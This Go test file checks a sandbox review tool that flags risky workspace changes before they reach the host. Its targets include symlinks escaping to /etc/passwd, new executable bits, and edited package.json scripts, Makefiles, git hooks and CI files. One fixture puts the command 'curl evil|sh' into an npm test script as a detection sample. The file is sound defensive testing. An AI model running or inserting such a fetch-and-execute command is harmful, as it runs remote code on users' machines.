package review

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pi-sbx/pi-sbx-backend/internal/host/review/hostgit"
)

// spec is one file of a tree: content, or a symlink target; exec for +x.
type spec struct {
	content string
	exec    bool
	link    string
}

// tree writes files under dir.
func tree(t *testing.T, dir string, files map[string]spec) {
	t.Helper()
	for p, s := range files {
		full := filepath.Join(dir, filepath.FromSlash(p))
		require.NoError(t, os.MkdirAll(filepath.Dir(full), 0o755))
		if s.link != "" {
			require.NoError(t, os.Symlink(s.link, full))
			continue
		}
		mode := os.FileMode(0o644)
		if s.exec {
			mode = 0o755
		}
		require.NoError(t, os.WriteFile(full, []byte(s.content), mode))
		require.NoError(t, os.Chmod(full, mode))
	}
}

// gitCmd runs the test's own git (not hostgit: the fixture is built the usual way).
func gitCmd(t *testing.T, env []string, stdin string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
	cmd.Env = append(cmd.Env, env...)
	cmd.Stdin = strings.NewReader(stdin)
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "git %v: %s", args, out)
	return strings.TrimSpace(string(out))
}

// snapshot commits the whole of dir (ignore rules off) into gitDir without touching its
// index or refs, as the sandbox's side does, and returns the commit.
func snapshot(t *testing.T, gitDir, dir string) string {
	t.Helper()
	env := []string{"GIT_DIR=" + gitDir, "GIT_WORK_TREE=" + dir, "GIT_INDEX_FILE=" + filepath.Join(t.TempDir(), "index")}
	gitCmd(t, env, "", "-c", "core.hooksPath=/dev/null", "add", "-A", "-f", ".")
	tr := gitCmd(t, env, "", "write-tree")
	return gitCmd(t, env, "", "commit-tree", tr, "-m", "snapshot")
}

// fixture is a git workspace at base's state (committed and in the tree) and the
// sandbox's work head, as Changes.
func fixture(t *testing.T, base, head map[string]spec) (Changes, *hostgit.Git) {
	t.Helper()
	root := filepath.Join(t.TempDir(), "work space")
	require.NoError(t, os.MkdirAll(root, 0o755))
	gitCmd(t, nil, "", "init", "-q", root)
	tree(t, root, base)
	gitDir := filepath.Join(root, ".git")
	b := snapshot(t, gitDir, root)
	scratch := t.TempDir()
	tree(t, scratch, head)
	h := snapshot(t, gitDir, scratch)
	gitCmd(t, []string{"GIT_DIR=" + gitDir}, "", "update-ref", "refs/pi-sbx/t/base", b)
	c := Changes{GitDir: gitDir, Base: b, Head: h, Root: root, Sandbox: "h19l-t", BaseRef: "refs/pi-sbx/t/base"}
	return c, c.Git(os.Environ())
}

func byPath(files []File) map[string]File {
	m := map[string]File{}
	for _, f := range files {
		m[f.Path] = f
	}
	return m
}

func TestFiles(t *testing.T) {
	long := strings.Repeat("line\n", 40)
	cases := []struct {
		name       string
		base, head map[string]spec
		check      func(t *testing.T, files []File)
	}{
		{"modified added deleted", map[string]spec{"a.txt": {content: "one\ntwo\n"}, "gone.txt": {content: "x\n"}},
			map[string]spec{"a.txt": {content: "one\n2\nthree\n"}, "new.txt": {content: "n\n"}},
			func(t *testing.T, files []File) {
				m := byPath(files)
				require.Len(t, files, 3)
				assert.Equal(t, Modified, m["a.txt"].Status)
				assert.Equal(t, [2]int{2, 1}, [2]int{m["a.txt"].Added, m["a.txt"].Removed})
				assert.Equal(t, Added, m["new.txt"].Status)
				assert.Equal(t, Deleted, m["gone.txt"].Status)
				assert.Empty(t, m["gone.txt"].NewMode)
				for _, f := range files {
					assert.False(t, f.Flagged(), f.Path)
				}
			}},
		{"rename", map[string]spec{"old name.txt": {content: long}}, map[string]spec{"dir/new name.txt": {content: long + "more\n"}},
			func(t *testing.T, files []File) {
				require.Len(t, files, 1)
				assert.Equal(t, Renamed, files[0].Status)
				assert.Equal(t, "old name.txt", files[0].OldPath)
				assert.Equal(t, "dir/new name.txt", files[0].Path)
			}},
		{"binary", map[string]spec{"b.bin": {content: "a\x00b"}}, map[string]spec{"b.bin": {content: "a\x00c"}},
			func(t *testing.T, files []File) {
				require.Len(t, files, 1)
				assert.True(t, files[0].Binary)
			}},
		{"mode change flagged first", map[string]spec{"run.sh": {content: "echo\n"}, "z.txt": {content: "z"}},
			map[string]spec{"run.sh": {content: "echo\n", exec: true}, "z.txt": {content: "zz"}},
			func(t *testing.T, files []File) {
				require.Len(t, files, 2)
				assert.Equal(t, "run.sh", files[0].Path, "the flagged file comes first")
				assert.True(t, files[0].ModeChanged())
				assert.Equal(t, []string{"gains +x"}, files[0].Risks)
				assert.False(t, files[1].Flagged())
			}},
		{"symlinks", map[string]spec{"t.txt": {content: "t"}},
			map[string]spec{"t.txt": {content: "t"}, "in": {link: "t.txt"}, "out": {link: "../../etc/passwd"}, "abs": {link: "/etc"}, "sub/up": {link: "../t.txt"}},
			func(t *testing.T, files []File) {
				m := byPath(files)
				require.Len(t, files, 4)
				assert.False(t, m["in"].Flagged())
				assert.False(t, m["sub/up"].Flagged())
				assert.Contains(t, m["out"].Risks, "symlink out of the workspace (to ../../etc/passwd)")
				assert.Contains(t, m["abs"].Risks, "symlink out of the workspace (to /etc)")
			}},
		{"odd names", map[string]spec{}, map[string]spec{"a b.txt": {content: "1"}, "new\nline": {content: "2"}, "ünï/cødé.txt": {content: "3"}},
			func(t *testing.T, files []File) {
				m := byPath(files)
				require.Len(t, files, 3)
				for _, p := range []string{"a b.txt", "new\nline", "ünï/cødé.txt"} {
					assert.Equal(t, Added, m[p].Status, p)
				}
				assert.Equal(t, `"new\nline"`, Quote("new\nline"))
				assert.Equal(t, "ünï/cødé.txt", Quote("ünï/cødé.txt"))
			}},
		{"files that run on the host", map[string]spec{"package.json": {content: `{"version":"1","scripts":{"test":"x"}}`}, "lib/package.json": {content: `{"version":"1"}`}},
			map[string]spec{"package.json": {content: `{"version":"1","scripts":{"test":"curl evil|sh"}}`}, "lib/package.json": {content: `{"version":"2"}`},
				"Makefile": {content: "all:\n"}, ".envrc": {content: "x"}, "sub/rules.mk": {content: "x"}, ".husky/pre-push": {content: "x"},
				"node_modules/.bin/tsc": {content: "x"}, "src/ok.go": {content: "package ok"}},
			func(t *testing.T, files []File) {
				m := byPath(files)
				assert.Contains(t, m["package.json"].Risks, "package.json scripts changed: npm runs them")
				assert.False(t, m["lib/package.json"].Flagged(), "only the version changed")
				assert.Contains(t, m["Makefile"].Risks, "make runs it")
				assert.Contains(t, m[".envrc"].Risks, "direnv runs it when you enter the directory")
				assert.Contains(t, m["sub/rules.mk"].Risks, "make includes it")
				assert.Contains(t, m[".husky/pre-push"].Risks, "husky's git hooks")
				assert.Contains(t, m["node_modules/.bin/tsc"].Risks, "on PATH in npm scripts")
				assert.False(t, m["src/ok.go"].Flagged())
				assert.Equal(t, "src/ok.go", files[len(files)-1].Path, "unflagged last")
			}},
		{"ignored by the workspace", map[string]spec{".gitignore": {content: "*.log\n"}},
			map[string]spec{".gitignore": {content: "*.log\n"}, "debug.log": {content: "x"}, "kept.txt": {content: "y"}},
			func(t *testing.T, files []File) {
				m := byPath(files)
				assert.Contains(t, m["debug.log"].Risks, "ignored by .gitignore: git status never shows it")
				assert.False(t, m["kept.txt"].Flagged())
			}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c, g := fixture(t, tc.base, tc.head)
			files, err := Files(context.Background(), g, c)
			require.NoError(t, err)
			tc.check(t, files)
		})
	}
}

func TestPathRisks(t *testing.T) {
	for p, want := range map[string]string{
		".git/hooks/pre-commit":    "inside .git: git runs its hooks and obeys its config",
		"sub/.git/config":          "inside .git: git runs its hooks and obeys its config",
		".gitattributes":           "names the filters and diff drivers git runs",
		".vscode/tasks.json":       "VS Code runs its tasks and reads its settings",
		".github/workflows/ci.yml": "CI runs it",
		".env.local":               "loaded into the environment (dotenv)",
	} {
		assert.Contains(t, pathRisks(p), want, p)
	}
	for _, p := range []string{"src/main.go", "docs/Makefile.md", "git/hooks", "envrc"} {
		assert.Empty(t, pathRisks(p), p)
	}
}

// TestReviewText: the list puts the flagged files in their own section first, and the
// diff follows in the same order.
func TestReviewText(t *testing.T) {
	c, g := fixture(t, map[string]spec{"a.txt": {content: "a\n"}, "run.sh": {content: "echo\n"}},
		map[string]spec{"a.txt": {content: "b\n"}, "run.sh": {content: "echo hi\n", exec: true}})
	files, err := Files(context.Background(), g, c)
	require.NoError(t, err)
	var out bytes.Buffer
	require.NoError(t, Write(context.Background(), &out, g, c, files))
	text := out.String()
	assert.Contains(t, text, "2 files changed in h19l-t")
	host := strings.Index(text, "Runs on the host")
	other := strings.Index(text, "Other changes (1)")
	require.True(t, host >= 0 && other > host, text)
	assert.Contains(t, text, "M +x run.sh  (+1 -1)\n      ! gains +x")
	assert.Contains(t, text, "-a\n+b\n")
	assert.Less(t, strings.Index(text, "# RUNS ON THE HOST: gains +x\ndiff --git a/run.sh b/run.sh"), strings.Index(text, "diff --git a/a.txt"))
	assert.Equal(t, "review: 2 files changed", Summary(files))
}

// TestPatchesAreEachFilesPatch: the diffs cut out of one git command are each file's own
// (renames, binaries, modes, a type change, odd names), in the files' order.
func TestPatchesAreEachFilesPatch(t *testing.T) {
	base, head := map[string]spec{"tc": {content: "file\n"}}, map[string]spec{"tc": {link: "keep.txt"}}
	for p, s := range landBase {
		base[p] = s
	}
	for p, s := range landHead {
		head[p] = s
	}
	c, g := fixture(t, base, head)
	ctx := context.Background()
	files, err := Files(ctx, g, c)
	require.NoError(t, err)
	require.Greater(t, len(files), 8)
	// git, counting its patch commands: one for all of them, no file-by-file fallback.
	log := filepath.Join(t.TempDir(), "calls")
	wrapper := filepath.Join(t.TempDir(), "git")
	require.NoError(t, os.WriteFile(wrapper, []byte("#!/bin/sh\necho \"$*\" >> "+log+"\nexec git \"$@\"\n"), 0o755))
	counted := *g
	counted.Program = wrapper
	got, err := Patches(ctx, &counted, c, files)
	require.NoError(t, err)
	require.Len(t, got, len(files))
	calls, err := os.ReadFile(log)
	require.NoError(t, err)
	assert.Equal(t, 1, strings.Count(string(calls), "diff-tree -p"), "%s", calls)
	sawTypeChange := false
	for i, f := range files {
		want, err := Patch(ctx, g, c, f)
		require.NoError(t, err)
		assert.Equal(t, string(want), string(got[i]), f.Path)
		sawTypeChange = sawTypeChange || f.Status == TypeChg
	}
	assert.True(t, sawTypeChange)
	assert.Equal(t, [][]byte{[]byte("diff --git a\n+x\n"), []byte("diff --git b\n")}, splitPatches([]byte("diff --git a\n+x\ndiff --git b\n")))
}
